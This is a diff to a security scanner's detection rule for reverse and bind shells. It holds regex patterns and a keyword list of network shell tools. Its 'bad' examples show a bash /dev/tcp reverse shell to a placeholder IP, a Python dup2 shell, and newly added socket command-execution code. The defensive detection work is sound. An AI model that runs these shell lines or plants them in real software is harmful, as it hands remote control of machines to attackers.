@@ -1,4 +1,4 @@
-import type { Check } from '../../check.ts';
+import type { FileCheck } from '../../check.ts';
 
 /** Each form hands a shell to whoever is at the other end of a socket. */
 const FORMS: readonly RegExp[] = [
@@ -10,7 +10,7 @@ const FORMS: readonly RegExp[] = [
   /\bos\.dup2\(\s{0,3}\w{1,40}\.fileno\(\)\s{0,3},\s{0,3}[012]\s{0,3}\)/g,
 ];
 
-export const check: Check = {
+export const check: FileCheck = {
   id: 'rce-reverse-shell',
   title: 'Reverse or bind shell',
   severity: 'critical',
@@ -25,7 +25,10 @@ export const check: Check = {
     Remove the code and treat every machine that ran it as taken over.
     Where a remote console is meant, use one that authenticates, such as SSH.`,
   blindSpots: 'A shell that is built from parts at run time is not recognised by its text.',
-  wants: { keywords: ['/dev/tcp/', '/dev/udp/', 'nc ', 'ncat ', 'netcat ', 'mkfifo ', 'socat ', '.dup2('] },
+  wants: {
+    keywords: ['/dev/tcp/', '/dev/udp/', 'nc ', 'ncat ', 'netcat ', 'mkfifo ', 'socat ', '.dup2('],
+    acts: ['remote-control'],
+  },
   examples: {
     bad: [
       { 'setup.sh': '«bash -i >& /dev/tcp/203.0.113.7/4444» 0>&1' },
@@ -37,6 +40,12 @@ export const check: Check = {
           «os.dup2(s.fileno(), 0)»
           subprocess.call(["/bin/sh", "-i"])`,
       },
+      {
+        'client.py': `
+          command = sock.recv(1024).decode()
+          output = subprocess.check_output(command, shell=True)
+          «sock.send(output)»`,
+      },
     ],
     good: [
       { 'wait.sh': 'until nc -z localhost 5432; do sleep 1; done' },
@@ -45,7 +54,8 @@ export const check: Check = {
     ],
   },
 
-  *find({ windows }) {
+  *find({ windows, acts, span }) {
+    for (const { start, end, message, confidence } of acts) yield { at: span(start, end), message, confidence };
     for (const window of windows) {
       for (const form of FORMS) {
         for (const match of window.text.matchAll(form)) {
